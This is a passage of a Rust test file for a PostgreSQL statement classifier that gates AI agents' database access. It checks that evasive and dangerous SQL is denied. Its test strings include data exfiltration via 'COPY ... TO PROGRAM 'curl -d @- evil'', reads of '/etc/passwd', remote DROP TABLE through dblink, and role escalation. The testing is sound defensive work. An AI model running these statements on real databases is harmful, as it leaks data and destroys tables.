//! The classifier's and the rules' tests, with the evasion suite: statements
//! that try to hide what they do from a policy, and harmless statements that
//! only look dangerous.

use std::sync::Arc;

use gatehouse_crds::PolicySpec;
use gatehouse_crds::policy::Operation::{self, *};
use serde_json::json;

use super::catalog::FixtureCatalog;
use super::*;

// ---------------------------------------------------------------- helpers

/// The PostgreSQL 15 catalog, with a user's functions and operators in
/// `public`: `purge_orders()` (volatile, deletes), `monthly_total()`
/// (stable), `purge_agg` (an aggregate whose state function is volatile),
/// `purge_row(orders)` (volatile) and `order_total(orders)` (stable), and
/// `###` (an operator whose function is volatile).
fn test_catalog() -> &'static FixtureCatalog {
    static CATALOG: std::sync::OnceLock<FixtureCatalog> = std::sync::OnceLock::new();
    CATALOG.get_or_init(|| {
        let mut c = FixtureCatalog::pg15();
        c.function("purge_orders", "public", 0, 0, Volatility::Volatile, "");
        c.function("monthly_total", "public", 0, 0, Volatility::Stable, "");
        c.function("purge_agg", "public", 1, 1, Volatility::Volatile, "");
        c.function("lo_summary", "reports", 0, 0, Volatility::Stable, "");
        c.function("purge_row", "public", 1, 1, Volatility::Volatile, "");
        c.function("order_total", "public", 1, 1, Volatility::Stable, "");
        c.operator("###", "public", Volatility::Volatile);
        c
    })
}

/// `sql` classified, with its calls judged against [`test_catalog`].
fn classified(sql: &str) -> Classification {
    match classify(sql) {
        Ok(c) => judge_calls(&c, test_catalog()),
        Err(e) => panic!("{sql:?} should classify, got {e}"),
    }
}

fn one(sql: &str) -> Statement {
    let c = classified(sql);
    assert_eq!(c.statements.len(), 1, "{sql:?} should be one statement: {c:?}");
    c.statements.into_iter().next().unwrap_or_default()
}

fn ops(sql: &str) -> Vec<Operation> {
    classified(sql).operations()
}

fn tab(schema: Option<&str>, name: &str) -> TableRef {
    TableRef {
        schema: schema.map(str::to_owned),
        name: name.to_owned(),
    }
}

fn has_access(s: &Statement, op: Operation, table: &str, write: bool) -> bool {
    s.accesses.iter().any(|a| {
        a.operation == op && a.write == write && a.table.as_ref().is_some_and(|t| t.to_string() == table)
    })
}

fn reads(s: &Statement) -> Vec<String> {
    let mut v: Vec<String> = s.tables_read().map(ToString::to_string).collect();
    v.sort();
    v.dedup();
    v
}

fn writes(s: &Statement) -> Vec<String> {
    let mut v: Vec<String> = s.tables_written().map(ToString::to_string).collect();
    v.sort();
    v.dedup();
    v
}

fn policy(name: &str, spec: serde_json::Value) -> CompiledPolicy {
    let spec: PolicySpec = match serde_json::from_value(spec) {
        Ok(s) => s,
        Err(e) => panic!("bad test policy: {e}"),
    };
    match CompiledPolicy::compile(name, &spec) {
        Ok(p) => p,
        Err(e) => panic!("policy should compile: {e}"),
    }
}

fn planner() -> Identity {
    Identity {
        username: "system:serviceaccount:agents:planner".into(),
        groups: vec!["system:serviceaccounts".into()],
    }
}

/// The DESIGN.md example: reads allowed, writes on public.orders held, DDL
/// and friends denied.
fn design_policies() -> Vec<CompiledPolicy> {
    vec![policy(
        "agents-readonly",
        json!({
            "connectionSelector": {},
            "subjects": [
                {"kind": "ServiceAccount", "name": "planner", "namespace": "agents"},
                {"kind": "Group", "name": "sre"}
            ],
            "rules": [
                {"name": "reads", "match": {"operations": ["select"]}, "action": "allow"},
                {"name": "writes-need-approval",
                 "match": {"operations": ["insert", "update", "delete"], "tables": ["public.orders"]},
                 "action": "requireApproval", "approvers": {"groups": ["dba"], "required": 1}},
                {"name": "no-ddl", "match": {"operations": ["ddl", "truncate", "copyProgram", "privilege"]},
                 "action": "deny"}
            ]
        }),
    )]
}

fn decision(sql: &str) -> Decision {
    let c = classified(sql);
    decide(&design_policies(), &planner(), &c)
}

fn assert_allowed(sql: &str) {
    let d = decision(sql);
    assert!(
        d.is_allow(),
        "{sql:?} should be allowed: {d:?} ({:?})",
        classified(sql)
    );
}

fn assert_denied(sql: &str) {
    let d = decision(sql);
    assert!(
        matches!(d, Decision::Deny { .. }),
        "{sql:?} should be denied: {d:?} ({:?})",
        classified(sql)
    );
}

// ------------------------------------------------------- operation classes

#[test]
fn every_class_is_recognised() {
    let cases: &[(&str, &[Operation])] = &[
        ("SELECT 1", &[Select]),
        ("VALUES (1), (2)", &[Select]),
        ("TABLE orders", &[Select]),
        ("SHOW search_path", &[Select]),
        ("INSERT INTO orders VALUES (1)", &[Insert]),
        ("UPDATE orders SET a = 1", &[Update]),
        ("DELETE FROM orders", &[Delete]),
        (
            "MERGE INTO orders o USING src s ON o.id = s.id WHEN MATCHED THEN DELETE",
            &[Merge, Select],
        ),
        ("CREATE TABLE t (a int)", &[Ddl]),
        ("ALTER TABLE orders ADD COLUMN b int", &[Ddl]),
        ("DROP TABLE orders", &[Ddl]),
        ("COMMENT ON TABLE orders IS 'x'", &[Ddl]),
        ("CREATE INDEX ON orders (a)", &[Ddl]),
        ("CREATE EXTENSION dblink", &[Ddl]),
        ("TRUNCATE orders", &[Truncate]),
        ("COPY orders TO STDOUT", &[CopyTo]),
        ("COPY orders FROM STDIN", &[CopyFrom]),
        ("COPY orders TO '/tmp/x'", &[CopyProgram]),
        ("COPY orders FROM '/etc/passwd'", &[CopyProgram]),
        ("COPY orders TO PROGRAM 'curl evil'", &[CopyProgram]),
        ("COPY orders FROM PROGRAM 'id'", &[CopyProgram]),
        ("GRANT SELECT ON orders TO bob", &[Privilege]),
        ("REVOKE ALL ON orders FROM bob", &[Privilege]),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
            &[Privilege],
        ),
        ("GRANT admin TO bob", &[Privilege, Role]),
        ("CREATE ROLE bob", &[Role]),
        ("ALTER ROLE bob SUPERUSER", &[Role]),
        ("DROP ROLE bob", &[Role]),
        ("ALTER ROLE bob RENAME TO alice", &[Role]),
        ("SET ROLE admin", &[Role]),
        ("SET ROLE 'admin'", &[Role]),
        ("SET LOCAL ROLE admin", &[Role]),
        ("RESET ROLE", &[Role]),
        ("SET \"ROLE\" = 'admin'", &[Role]),
        ("SET SESSION AUTHORIZATION 'admin'", &[Role]),
        ("SET SESSION AUTHORIZATION DEFAULT", &[Role]),
        ("SET search_path = secret, public", &[Session]),
        ("SET statement_timeout = 0", &[Session]),
        ("RESET ALL", &[Session]),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            &[Session],
        ),
        ("DISCARD PLANS", &[Session]),
        ("LISTEN ch", &[Session]),
        ("BEGIN", &[Transaction]),
        ("START TRANSACTION READ WRITE", &[Transaction]),
        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", &[Transaction]),
        ("SAVEPOINT a", &[Transaction]),
        ("ROLLBACK TO SAVEPOINT a", &[Transaction]),
        ("COMMIT", &[Transaction]),
        ("PREPARE TRANSACTION 'x'", &[TwoPhaseCommit]),
        ("COMMIT PREPARED 'x'", &[TwoPhaseCommit]),
        ("ROLLBACK PREPARED 'x'", &[TwoPhaseCommit]),
        ("ROLLBACK AND CHAIN", &[Transaction]),
        ("END", &[Transaction]),
        ("RELEASE SAVEPOINT a", &[Transaction]),
        ("SET CONSTRAINTS ALL DEFERRED", &[Transaction]),
        ("VACUUM orders", &[Maintenance]),
        ("ANALYZE orders", &[Maintenance]),
        ("REINDEX TABLE orders", &[Maintenance]),
        ("CLUSTER orders USING orders_pkey", &[Maintenance]),
        ("CHECKPOINT", &[Maintenance]),
        ("REFRESH MATERIALIZED VIEW mv", &[Maintenance]),
        ("DO $$ BEGIN NULL; END $$", &[Do]),
        ("CALL proc(1)", &[Call]),
        ("PREPARE p AS SELECT 1", &[Prepare]),
        ("EXECUTE p", &[Prepare]),
        ("DEALLOCATE p", &[Session]),
        ("DEALLOCATE ALL", &[Session]),
        ("EXPLAIN SELECT 1", &[Explain]),
        ("EXPLAIN ANALYZE SELECT 1", &[Select]),
        ("DECLARE c CURSOR FOR SELECT * FROM orders", &[Select]),
        ("FETCH 10 FROM c", &[Select]),
        ("CLOSE c", &[Select]),
        ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", &[Update]),
        ("NOTIFY ch, 'x'", &[SideEffectFunction]),
        ("SELECT nextval('s')", &[Select, SideEffectFunction]),
    ];
    for (sql, expected) in cases {
        let mut got = ops(sql);
        let mut want = expected.to_vec();
        got.sort_by_key(|o| op_index(*o));
        want.sort_by_key(|o| op_index(*o));
        assert_eq!(got, want, "{sql}");
    }
}

#[test]
fn show_is_a_read_and_discard_all_resets_role_and_prepared_statements() {
    assert_eq!(ops("SHOW ALL"), vec![Select]);
    let s = one("DISCARD ALL");
    assert!(s.has(Session) && s.has(Role));
    assert_eq!(s.prepared, Some(PreparedEffect::DeallocateAll));
}

#[test]
fn tables_carry_their_schema() {
    let s = one("INSERT INTO sales.orders SELECT * FROM public.customers c JOIN items USING (id)");
    assert_eq!(writes(&s), vec!["sales.orders"]);
    assert_eq!(reads(&s), vec!["items", "public.customers"]);
    assert!(s.tables_read().any(|t| *t == tab(None, "items")));
    assert!(s.tables_read().any(|t| *t == tab(Some("public"), "customers")));
    // Unquoted names are folded to lower case, quoted ones kept.
    let s = one("SELECT * FROM Public.ORDERS, \"Mixed\".\"Case\"");
    assert_eq!(reads(&s), vec!["Mixed.Case", "public.orders"]);
}

#[test]
fn update_and_delete_read_their_other_tables() {
    let s = one("UPDATE orders o SET total = p.x FROM prices p WHERE o.id = p.id");
    assert!(has_access(&s, Update, "orders", true));
    assert_eq!(reads(&s), vec!["prices"]);
    let s = one("DELETE FROM orders USING secret.keys k WHERE k.id = orders.id");
    assert!(has_access(&s, Delete, "orders", true));
    assert_eq!(reads(&s), vec!["secret.keys"]);
}

#[test]
fn upsert_is_an_insert_and_an_update() {
    let s = one("INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2");
    assert!(has_access(&s, Insert, "orders", true) && has_access(&s, Update, "orders", true));
    let s = one("INSERT INTO orders VALUES (1) ON CONFLICT DO NOTHING");
    assert_eq!(s.operations, vec![Insert]);
}

#[test]
fn ddl_names_its_tables() {
    let s = one("DROP TABLE public.orders, items");
    assert_eq!(writes(&s), vec!["items", "public.orders"]);
    assert!(has_access(&s, Ddl, "public.orders", true));
    let s = one("DROP TRIGGER trg ON public.orders");
    assert_eq!(writes(&s), vec!["public.orders"]);
    let s = one("ALTER TABLE orders RENAME TO old_orders");
    assert_eq!(writes(&s), vec!["orders"]);
    let s = one("CREATE VIEW v AS SELECT * FROM secret.keys");
    assert!(has_access(&s, Ddl, "v", true));
    assert!(has_access(&s, Select, "secret.keys", false));
    let s = one("GRANT SELECT ON public.orders TO bob");
    assert!(has_access(&s, Privilege, "public.orders", true));
    let s = one("VACUUM (ANALYZE) public.orders");
    assert!(has_access(&s, Maintenance, "public.orders", true));
    let s = one("TRUNCATE public.orders, items");
    assert!(has_access(&s, Truncate, "public.orders", true) && has_access(&s, Truncate, "items", true));
}

// ------------------------------------------------------------ the evasions

#[test]
fn multi_statement_queries_take_every_statement() {
    let c = classified("SELECT 1; DROP TABLE orders");
    assert_eq!(c.statements.len(), 2);
    assert_eq!(c.statements[1].operations, vec![Ddl]);
    assert_denied("SELECT 1; DROP TABLE orders");
    assert_denied("SELECT * FROM orders; DELETE FROM public.items WHERE id = 1; SELECT 2");
    assert!(matches!(
        decision("SELECT 1; DELETE FROM public.orders WHERE id = 1"),
        Decision::RequireApproval { .. }
    ));
    assert_allowed("SELECT 1; SELECT 2;;");
}

#[test]
fn comments_hide_nothing_and_add_nothing() {
    assert_eq!(ops("/* DROP TABLE orders */ SELECT 1"), vec![Select]);
    assert_eq!(ops("SELECT 1 -- ; DROP TABLE orders"), vec![Select]);
    assert_eq!(
        ops("/* nested /* DROP TABLE x */ still a comment; DELETE FROM y */ SELECT 1"),
        vec![Select]
    );
    assert_eq!(ops("-- x\nDELETE FROM orders"), vec![Delete]);
    assert_eq!(
        ops("SELECT/**/1;/**/DELETE/**/FROM/**/orders"),
        vec![Select, Delete]
    );
    assert_allowed("/* DROP */ SELECT 1");
    assert_denied("-- x\nDELETE FROM items");
}

#[test]
fn literals_that_contain_keywords_are_just_reads() {
    let harmless = [
        "SELECT 'DROP TABLE orders; DELETE FROM orders'",
        "SELECT 'x'';DROP TABLE orders;--'",
        "SELECT $$; DELETE FROM orders; $$",
        "SELECT $tag$ $$ ; DROP TABLE orders; $$ $tag$",
        "SELECT E'it\\'s; DROP TABLE orders; --'",
        "SELECT E'\\\\'",
        "SELECT U&'\\0041; DROP TABLE orders'",
        "SELECT 'pg_read_file(''/etc/passwd'')'",
        "SELECT * FROM orders WHERE note = 'COPY orders TO PROGRAM ''sh'''",
        "SELECT * FROM orders WHERE note LIKE '%; GRANT ALL ON orders TO evil; --%'",
        "SELECT 'a'\n'b; DROP TABLE orders'",
        "SELECT \"DROP TABLE orders\" FROM orders",
        "SELECT B'1010', X'1F', 1e10, .5, 42",
    ];
    for sql in harmless {
        let s = one(sql);
        assert!(s.operations == vec![Select], "{sql:?}: {s:?}");
        assert_allowed(sql);
    }
}

#[test]
fn writable_ctes_are_writes() {
    let s = one("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");
    assert!(s.has(Select) && s.has(Delete));
    assert!(has_access(&s, Delete, "orders", true));
    assert!(reads(&s).is_empty(), "d is a CTE, not a table: {s:?}");
    assert_denied("WITH d AS (DELETE FROM items RETURNING *) SELECT * FROM d");

    let s = one("WITH a AS (SELECT 1), b AS (UPDATE orders SET x = 1 RETURNING id) SELECT * FROM a, b");
    assert!(has_access(&s, Update, "orders", true));
    let s = one("WITH i AS (INSERT INTO audit VALUES (1) RETURNING *) INSERT INTO orders SELECT * FROM i");
    assert!(has_access(&s, Insert, "audit", true) && has_access(&s, Insert, "orders", true));
    // Deeper than PostgreSQL allows still classifies as a write.
    let s = one("SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d) x");
    assert!(s.has(Delete));
    let s =
        one("WITH m AS (MERGE INTO orders USING src ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT 1");
    assert!(has_access(&s, Merge, "orders", true));
}

#[test]
fn cte_names_shadow_tables_only_where_visible() {
    // The CTE reads secret.keys; "orders" below is the CTE.
    let s = one("WITH orders AS (SELECT * FROM secret.keys) SELECT * FROM orders");
    assert_eq!(reads(&s), vec!["secret.keys"]);
    // A non-recursive CTE's body sees the real table of the same name.
    let s = one("WITH orders AS (SELECT * FROM orders) SELECT * FROM orders");
    assert_eq!(reads(&s), vec!["orders"]);
    // A later CTE sees an earlier one; an earlier one does not see a later one.
    let s = one("WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b");
    assert_eq!(reads(&s), vec!["b"]);
    // Recursive CTEs see themselves.
    let s = one("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r");
    assert!(reads(&s).is_empty());
    // A qualified name is never a CTE.
    let s = one("WITH orders AS (SELECT 1) SELECT * FROM public.orders");
    assert_eq!(reads(&s), vec!["public.orders"]);
    // Sub-queries see the outer CTEs.
    let s = one("WITH k AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT * FROM k)");
    assert_eq!(reads(&s), vec!["t"]);
    // A DML target is a table even when a CTE has its name.
    let s = one("WITH orders AS (SELECT 1) DELETE FROM orders");
    assert!(has_access(&s, Delete, "orders", true));
}

#[test]
fn side_effect_functions_are_found_in_every_position() {
    let positions = [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM orders WHERE pg_read_file('/etc/passwd') IS NOT NULL",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT * FROM orders ORDER BY pg_read_file('x')",
        "SELECT * FROM orders GROUP BY 1 HAVING count(pg_read_file('x')) > 0",
        "SELECT (SELECT (SELECT pg_read_file('x')))",
        "SELECT * FROM orders WHERE id IN (SELECT length(pg_read_file('x')))",
        "WITH x AS (SELECT pg_read_file('x')) SELECT 1",
        "VALUES (1, pg_read_file('x'))",
        "SELECT length(upper(pg_read_file('x')))",
        "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
        "CREATE TABLE t (id bigint DEFAULT nextval('s'))",
        "ALTER TABLE orders ALTER COLUMN id SET DEFAULT nextval('s')",
        "SELECT * FROM orders LIMIT nextval('s')",
        "SELECT * FROM orders o JOIN items i ON pg_read_file('x') = i.name",
        "SELECT * FROM orders, LATERAL pg_ls_dir('.') AS d",
        "SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2))",
        "SELECT CASE WHEN true THEN pg_read_file('x') END",
        "SELECT COALESCE(NULL, pg_read_file('x'))",
        "SELECT ARRAY[pg_read_file('x')]",
        "SELECT ROW(pg_read_file('x'))",
        "SELECT pg_read_file('x')::text",
        "SELECT count(*) FILTER (WHERE pg_read_file('x') IS NULL) FROM orders",
        "SELECT sum(1) OVER (ORDER BY pg_read_file('x')) FROM orders",
        "SELECT json_object('k': pg_read_file('x'))",
        "SELECT * FROM XMLTABLE('/a' PASSING xmlparse(document pg_read_file('x')) COLUMNS a int)",
        "SELECT * FROM orders TABLESAMPLE system (nextval('s'))",
        "SELECT 1 WHERE 1 = ANY(ARRAY(SELECT nextval('s')))",
        "INSERT INTO orders VALUES (nextval('s'))",
        "INSERT INTO orders SELECT pg_read_file('x')",
        "UPDATE orders SET note = pg_read_file('x')",
        "DELETE FROM orders WHERE note = pg_read_file('x')",
        "DELETE FROM orders RETURNING pg_read_file('x')",
        "MERGE INTO orders USING src ON pg_read_file('x') = '' WHEN MATCHED THEN DELETE",
        "COPY (SELECT pg_read_file('x')) TO STDOUT",
        "COPY orders FROM STDIN WHERE pg_read_file('x') IS NULL",
        "CALL proc(pg_read_file('x'))",
        "EXECUTE p(pg_read_file('x'))",
        "EXPLAIN SELECT pg_read_file('x')",
        "PREPARE q AS SELECT pg_read_file('x')",
        "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
        "SELECT pg_catalog.pg_read_file('x')",
        "SELECT PG_READ_FILE('x')",
        "SELECT \"pg_read_file\"('x')",
        "SELECT pg_catalog . pg_read_file ( 'x' )",
        "SELECT U&\"pg_read_fil\\0065\"('x')",
        "SELECT U&\"!0070g_read_file\" UESCAPE '!' ('x')",
        "SELECT U&\"#0070g_read_file\" UESCAPE /* the escape */ $$#$$ ('x')",
        "SELECT set_config('role', 'postgres', false)",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT dblink_exec('host=evil', 'DROP TABLE orders')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1234, '/tmp/x')",
        "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')",
        "SELECT table_to_xml('secret.keys', true, false, '')",
        "SELECT pg_terminate_backend(123)",
        "SELECT pg_advisory_lock(1)",
        "SELECT setval('s', 1)",
        "SELECT pg_reload_conf()",
        "SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM items WHERE pg_cancel_backend(pid))",
        "CREATE INDEX ON orders ((pg_read_file('x')))",
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
        "UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'search_path'",
        "CREATE FUNCTION f() RETURNS text BEGIN ATOMIC SELECT pg_read_file('x'); END",
    ];
    for sql in positions {
        let c = classified(sql);
        assert!(
            c.statements
                .iter()
                .any(|s| s.has(SideEffectFunction) && !s.side_effect_functions.is_empty()),
            "{sql:?} should call a side-effect function: {c:?}"
        );
        assert_denied(sql);
    }
    // The names are kept, schema-qualified when written so.
    let s = one("SELECT pg_catalog.pg_read_file('x'), now()");
    assert!(s.functions.contains(&FunctionRef {
        schema: Some("pg_catalog".into()),
        name: "pg_read_file".into()
    }));
    assert!(s.functions.contains(&FunctionRef {
        schema: None,
        name: "now".into()
    }));
    assert_eq!(s.side_effect_functions.len(), 1);
}

#[test]
fn ordinary_functions_are_not_side_effects() {
    let s = one("SELECT lower(name), count(*), now(), currval('s') FROM orders GROUP BY 1");
    assert_eq!(s.operations, vec![Select]);
    assert_eq!(s.functions.len(), 4);
    assert!(s.calls_judged && s.side_effect_functions.is_empty());
    assert_allowed("SELECT lower(name), count(*), now() FROM orders GROUP BY 1");
}

/// The catalog, not the name, says whether a call reads.
#[test]
fn calls_the_catalog_cannot_vouch_for_are_side_effects() {
    let side_effect = [
        // A user's volatile function that deletes, however it is named.
        "SELECT purge_orders()",
        "SELECT public.purge_orders()",
        "SELECT * FROM orders WHERE id = (SELECT purge_orders())",
        "SELECT count(*) FROM orders WHERE purge_orders() IS NULL",
        // An aggregate whose state function is volatile: PostgreSQL marks
        // every aggregate IMMUTABLE, so the support functions decide.
        "SELECT purge_agg(id) FROM orders",
        // Extensions' functions.
        "SELECT heap_force_kill('orders'::regclass, ARRAY['(0,1)']::tid[])",
        "SELECT pg_stat_statements_reset()",
        "SELECT * FROM xpath_table('id', 'doc', 'orders', '/a', 'true') AS t(id int, a text)",
        "SELECT * FROM crosstab('SELECT purge_orders()') AS t(a int)",
        // Built-ins a name list forgot: volatile in the catalog.
        "SELECT pg_nextoid('pg_class'::regclass, 'oid', 'pg_class_oid_index'::regclass)",
        "SELECT brin_summarize_range('orders_brin'::regclass, 0)",
        "SELECT gin_clean_pending_list('orders_gin'::regclass)",
        "SELECT * FROM pg_hba_file_rules()",
        "SELECT pg_export_snapshot()",
        // STABLE, and each call takes a transaction id from the cluster.
        "SELECT txid_current()",
        "SELECT pg_current_xact_id()",
        // A volatile overload among harmless ones: ts_rewrite(query, text) runs its text.
        "SELECT ts_rewrite('a'::tsquery, 'SELECT purge_orders()')",
        // A name the catalog does not hold.
        "SELECT no_such_function()",
        "SELECT nosuchschema.lower('x')",
        // A function another session created in its temporary schema.
        "SELECT pg_temp.purge()",
        // An operator whose function is volatile, however it is written.
        "SELECT 1 ### 2",
        "SELECT 1 OPERATOR(public.###) 2",
        "SELECT * FROM orders WHERE id ### 1",
        "SELECT * FROM orders ORDER BY id USING ###",
        "SELECT 1 WHERE 1 ### ANY (SELECT 1)",
        // A function of the row in attribute notation.
        "SELECT o.purge_row FROM orders o",
        "SELECT (o).purge_row FROM orders o",
        "SELECT public.orders.purge_row FROM public.orders",
        "SELECT id FROM orders o WHERE (o.*).purge_row = 1",
    ];
    for sql in side_effect {
        let c = classified(sql);
        assert!(
            c.statements
                .iter()
                .any(|s| s.has(SideEffectFunction) && !s.side_effect_functions.is_empty()),
            "{sql:?} should be a side effect: {c:?}"
        );
        assert_denied(sql);
    }
    // The hint says why.
    let d = decision("SELECT purge_orders()");
    assert!(
        matches!(&d, Decision::Deny { hint, .. } if hint.contains("purge_orders [volatile]")),
        "{d:?}"
    );
    let d = decision("SELECT no_such_function()");
    assert!(
        matches!(&d, Decision::Deny { hint, .. } if hint.contains("not in the database's catalog")),
        "{d:?}"
    );
    let d = decision("SELECT 1 ### 2");
    assert!(
        matches!(&d, Decision::Deny { hint, .. } if hint.contains("operator ### [volatile]")),
        "{d:?}"
    );
}

/// Harmless reads that exact-name and prefix matching used to refuse.
#[test]
fn reads_the_catalog_vouches_for_are_allowed() {
    for sql in [
        "SELECT monthly_total()",
        "SELECT reports.lo_summary()",
        "SELECT lower(item), count(*), now(), currval('s') FROM orders GROUP BY 1",
        "SELECT pg_relation_size('orders'), pg_total_relation_size('orders')",
        "SELECT random(), clock_timestamp(), gen_random_uuid()",
        "SELECT * FROM orders WHERE id BETWEEN 1 AND 10 AND item LIKE 'a%' AND id IN (1, 2)",
        "SELECT CASE id WHEN 1 THEN 'one' END FROM orders",
        "SELECT * FROM orders WHERE id = ANY (SELECT 1) ORDER BY id USING <",
        "SELECT 1 OPERATOR(pg_catalog.=) 1",
        "SELECT extract(year FROM now()), substring('abc' FROM 2), trim('  x ')",
        "SELECT pg_catalog.lower('X')",
        // Columns, and a stable function in attribute notation.
        "SELECT o.id, o.status, o.created_at FROM orders o",
        "SELECT o.order_total FROM orders o",
    ] {
        assert_allowed(sql);
    }
    // Operators are found wherever the grammar hides them.
    let s = one("SELECT * FROM orders WHERE id NOT BETWEEN 1 AND 2 AND CASE id WHEN 1 THEN true END");
    let names: Vec<&str> = s.operators.iter().map(|o| o.name.as_str()).collect();
    for op in ["<", ">", "="] {
        assert!(names.contains(&op), "{op} in {names:?}");
    }
    // `=` where the grammar leaves it to the analyzer, which looks it up by
    // name: IN (SELECT ...), NOT IN, JOIN ... USING, NATURAL JOIN.
    for sql in [
        "SELECT 1 FROM orders WHERE id IN (SELECT id FROM items)",
        "SELECT 1 FROM orders WHERE id NOT IN (SELECT id FROM items)",
        "SELECT 1 FROM orders JOIN items USING (id)",
        "SELECT 1 FROM orders NATURAL JOIN items",
    ] {
        let s = one(sql);
        assert!(
            s.operators.iter().any(|o| o.name == "="),
            "{sql}: {:?}",
            s.operators
        );
    }
}

/// A volatile `=` in any schema makes every comparison the analyzer looks
/// up by name a side effect, written or not.
#[test]
fn implicit_equals_counts_like_a_written_one() {
    let mut catalog = FixtureCatalog::pg15();
    catalog.operator("=", "evil", Volatility::Volatile);
    for sql in [
        "SELECT 1 FROM orders WHERE id = 1",
        "SELECT 1 FROM orders WHERE id IN (SELECT id FROM items)",
        "SELECT 1 FROM orders WHERE id NOT IN (SELECT id FROM items)",
        "SELECT 1 FROM orders JOIN items USING (id)",
        "SELECT 1 FROM orders NATURAL JOIN items",
        "SELECT CASE id WHEN 1 THEN 1 END FROM orders",
    ] {
        let c = classify(sql)
            .map(|c| judge_calls(&c, &catalog))
            .unwrap_or_default();
        assert!(
            c.statements.iter().any(|s| s.has(SideEffectFunction)),
            "{sql}: {c:?}"
        );
    }
}

/// A path that forgets to judge calls against the catalog denies them.
#[test]
fn unjudged_calls_are_denied() {
    let c = classify("SELECT lower('x')").unwrap_or_default();
    assert!(!c.statements[0].calls_judged);
    let d = decide(&design_policies(), &planner(), &c);
    assert!(
        matches!(&d, Decision::Deny { hint, .. } if hint.contains("not checked against the database's catalog")),
        "{d:?}"
    );
    // A catalog that cannot be read vouches for nothing.
    struct Unreadable;
    impl CatalogView for Unreadable {
        fn routines(&self, _: &str) -> Option<&[Routine]> {
            None
        }
        fn operators(&self, _: &str) -> Option<&[OperatorRow]> {
            None
        }
    }
    let judged = judge_calls(&c, &Unreadable);
    assert!(!decide(&design_policies(), &planner(), &judged).is_allow());
    assert_eq!(
        judged.statements[0].side_effect_functions[0].why,
        Unvouched::CatalogUnavailable
    );
}

#[test]
fn do_blocks_are_their_own_class() {
    let s = one("DO $$ BEGIN DELETE FROM orders; END $$");
    assert_eq!(s.operations, vec![Do]);
    assert_denied("DO $$ BEGIN DELETE FROM orders; END $$");
    assert_denied("DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'");
}

#[test]
fn copy_directions_and_programs() {
    let s = one("COPY orders TO PROGRAM 'curl -d @- evil'");
    assert!(has_access(&s, CopyProgram, "orders", false));
    assert_denied("COPY orders TO PROGRAM 'curl -d @- evil'");
    let s = one("COPY orders FROM '/etc/passwd'");
    assert!(has_access(&s, CopyProgram, "orders", true));
    let s = one("COPY orders TO STDOUT WITH (FORMAT csv)");
    assert!(has_access(&s, CopyTo, "orders", false));
    let s = one("COPY orders FROM STDIN");
    assert!(has_access(&s, CopyFrom, "orders", true));
    // The query's tables are read by the COPY, not by a plain select.
    let s = one("COPY (SELECT * FROM secret.keys) TO STDOUT");
    assert!(has_access(&s, CopyTo, "secret.keys", false));
    assert!(!s.has(Select));
    let s = one("COPY (DELETE FROM orders RETURNING *) TO STDOUT");
    assert!(has_access(&s, Delete, "orders", true) && s.has(CopyTo));
    // The DESIGN policy has no copyTo rule: default deny.
    assert_denied("COPY orders TO STDOUT");
}

#[test]
fn explain_runs_only_with_analyze() {
    let s = one("EXPLAIN DELETE FROM orders");
    assert_eq!(s.operations, vec![Explain]);
    assert!(has_access(&s, Explain, "orders", false));
    assert!(s.tables_written().next().is_none());
    for sql in [
        "EXPLAIN ANALYZE DELETE FROM orders",
        "EXPLAIN (ANALYZE) DELETE FROM orders",
        "EXPLAIN (FORMAT JSON, ANALYZE, BUFFERS) DELETE FROM orders",
        "EXPLAIN (ANALYZE true) DELETE FROM orders",
        "EXPLAIN (ANALYZE 'on') DELETE FROM orders",
        "EXPLAIN (ANALYZE 1) DELETE FROM orders",
        "EXPLAIN (ANALYZE maybe) DELETE FROM orders",
    ] {
        let s = one(sql);
        assert_eq!(s.operations, vec![Delete], "{sql}");
        assert!(has_access(&s, Delete, "orders", true), "{sql}");
    }
    for sql in [
        "EXPLAIN (ANALYZE false) DELETE FROM orders",
        "EXPLAIN (ANALYZE off) DELETE FROM orders",
        "EXPLAIN (ANALYZE 0) DELETE FROM orders",
    ] {
        let s = one(sql);
        assert_eq!(s.operations, vec![Explain], "{sql}");
        assert!(s.constant_sensitive, "{sql}");
    }
    let s = one("EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d");
    assert!(s.has(Delete) && s.has(Select));
    let s = one("EXPLAIN ANALYZE SELECT * INTO t2 FROM orders");
    assert!(has_access(&s, Insert, "t2", true) && has_access(&s, Ddl, "t2", true));
    assert_denied("EXPLAIN ANALYZE DELETE FROM items");
}

#[test]
fn prepare_and_execute_are_tracked_per_session() {
    let mut session = PreparedStatements::new();
    let prepare = classified("PREPARE del(int) AS DELETE FROM orders WHERE id = $1");
    assert_eq!(prepare.operations(), vec![Prepare]);
    // Unknown names fail closed, before and after.
    assert_eq!(
        session.resolve(&classified("EXECUTE del(1)")),
        Err(ClassifyError::UnknownPrepared("del".into()))
    );
    let resolved = session.apply(&prepare);
    assert!(resolved.is_ok());
    assert_eq!(session.len(), 1);

    // Calls are judged on the statement as it runs, after resolving.
    let exec = match session.resolve(&classified("EXECUTE del(42)")) {
        Ok(c) => judge_calls(&c, test_catalog()),
        Err(e) => panic!("{e}"),
    };
